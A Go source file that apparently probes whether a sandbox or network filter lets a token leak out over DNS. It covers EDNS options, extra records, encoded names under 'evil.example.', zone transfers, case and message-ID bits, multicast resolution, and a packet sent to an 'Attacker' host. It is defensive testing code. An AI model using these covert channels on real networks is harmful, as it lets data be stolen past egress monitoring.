package probes

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"

	"github.com/miekg/dns"
)

// option adds an EDNS option to a question for an allowed name.
func option(make func(token string) dns.EDNS0) func(Aim) error {
	return written(func(m *dns.Msg, token string) {
		o := &dns.OPT{Hdr: dns.RR_Header{Name: ".", Rrtype: dns.TypeOPT}}
		o.SetUDPSize(1232)
		o.Option = append(o.Option, make(token))
		m.Extra = append(m.Extra, o)
	}, nil)
}

// record adds a record to one of the sections after the question.
func record(section func(m *dns.Msg) *[]dns.RR) func(Aim) error {
	return written(func(m *dns.Msg, token string) {
		rr := &dns.TXT{Hdr: dns.RR_Header{Name: "evil.example.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{token}}
		s := section(m)
		*s = append(*s, rr)
	}, nil)
}

func dnsOddProbes() []Probe {
	ps := []Probe{
		dnsProbe("edns-local", "an EDNS option of one's own on an allowed name", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(t)}
		})),
		dnsProbe("edns-cookie", "a DNS cookie", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: hex.EncodeToString([]byte(t))}
		})),
		dnsProbe("edns-padding", "padding that isn't empty", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_PADDING{Padding: []byte(t)}
		})),
		dnsProbe("edns-nsid", "a name server identifier", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_NSID{Code: dns.EDNS0NSID, Nsid: hex.EncodeToString([]byte(t))}
		})),
		dnsProbe("edns-subnet", "four bytes at a time in the client subnet", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 2, SourceNetmask: 128, Address: net.IP(append([]byte(t), make([]byte, 16)...)[:16])}
		})),
		dnsProbe("additional", "a record after the question", record(func(m *dns.Msg) *[]dns.RR { return &m.Extra })),
		dnsProbe("authority", "a record in the authority section", record(func(m *dns.Msg) *[]dns.RR { return &m.Ns })),
		dnsProbe("answer-in-question", "an answer in a question", record(func(m *dns.Msg) *[]dns.RR { return &m.Answer })),
		dnsProbe("trailing", "bytes after the message", written(nil, func(b []byte, t string) []byte { return append(b, t...) })),
		dnsProbe("two-questions", "a second question beside an allowed one", written(func(m *dns.Msg, t string) {
			m.Question = append(m.Question, dns.Question{Name: t + ".evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		}, nil)),
		dnsProbe("chaos", "a question of class CH", func(a Aim) error {
			m := new(dns.Msg).SetQuestion(a.Token+".evil.example.", dns.TypeTXT)
			m.Question[0].Qclass = dns.ClassCHAOS
			return answered(ask("udp", anyServer, m))
		}),
		dnsProbe("axfr", "a zone transfer", question("tcp", anyServer, "TOKEN.evil.example.", dns.TypeAXFR)),
		dnsProbe("update", "a dynamic update", opcode(dns.OpcodeUpdate)),
		dnsProbe("notify", "a notification", opcode(dns.OpcodeNotify)),
		dnsProbe("nul-in-name", "a NUL before the attacker's zone", question("udp", anyServer, `good\000TOKEN.evil.example.`, dns.TypeA)),
		dnsProbe("dot-in-label", "a dot inside a label", question("udp", anyServer, `good\.example\.TOKEN.evil.example.`, dns.TypeA)),
		dnsProbe("eight-bit", "bytes that are no text in a label", question("udp", anyServer, `\200\201TOKEN.evil.example.`, dns.TypeTXT)),
		dnsProbe("underscore", "a service's name", question("udp", anyServer, "_TOKEN._tcp.evil.example.", dns.TypeSRV)),
		dnsProbe("reverse", "the token in an address asked backwards", func(a Aim) error {
			r, err := dns.ReverseAddr(netip.AddrFrom16([16]byte(append([]byte(a.Token), make([]byte, 16)...)[:16])).String())
			if err != nil {
				return err
			}
			return answered(ask("udp", anyServer, new(dns.Msg).SetQuestion(r, dns.TypePTR)))
		}),
		dnsProbe("mdns", "multicast DNS", throw("udp", "224.0.0.251:5353")),
		dnsProbe("llmnr", "link-local name resolution", throw("udp", "224.0.0.252:5355")),
	}
	for i, p := range ps {
		ps[i].Tokenless = p.Name == "dns-reverse" || p.Name == "dns-edns-subnet" // nibbles backwards, and the first 16 bytes
	}
	return append(ps,
		Probe{
			Name: "dns-case", Category: dnsCategory, What: "a bit in the case of each letter of an allowed name", Tokenless: true,
			Try: func(a Aim) error {
				m := new(dns.Msg).SetQuestion("gOoD.eXaMpLe.", dns.TypeA)
				r, err := ask("udp", anyServer, m)
				if err != nil {
					return err
				}
				return fromOutside(r)
			},
		},
		Probe{
			Name: "dns-message-id", Category: dnsCategory, What: "two bytes in the number of a question", Tokenless: true,
			Try: func(a Aim) error {
				for i := 0; i+1 < len(a.Token); i += 2 {
					m := new(dns.Msg).SetQuestion("good.example.", dns.TypeA)
					m.Id = binary.BigEndian.Uint16([]byte(a.Token[i:]))
					r, err := ask("udp", anyServer, m)
					if err == nil {
						err = fromOutside(r)
					}
					if err != nil {
						return err
					}
				}
				return nil
			},
		},
		Probe{
			Name: "dns-answer", Category: dnsCategory, What: "a server of the attacker's takes an unasked answer",
			Try: func(a Aim) error {
				m := new(dns.Msg).SetQuestion(a.Token+".evil.example.", dns.TypeTXT)
				m.Response = true
				b, err := m.Pack()
				if err != nil {
					return err
				}
				c, err := dial("udp", Attacker+":5300")
				if err != nil {
					return err
				}
				_, err = speak(c, bytes.Clone(b))
				return err
			},
		},
	)
}

// opcode is a message that is no query, about the attacker's zone.
func opcode(op int) func(Aim) error {
	return func(a Aim) error {
		m := new(dns.Msg).SetQuestion(a.Token+".evil.example.", dns.TypeSOA)
		m.Opcode = op
		r, err := ask("udp", anyServer, m)
		if err != nil {
			return err
		}
		if r.Rcode != dns.RcodeSuccess {
			return fmt.Errorf("%s", dns.RcodeToString[r.Rcode])
		}
		return nil
	}
}
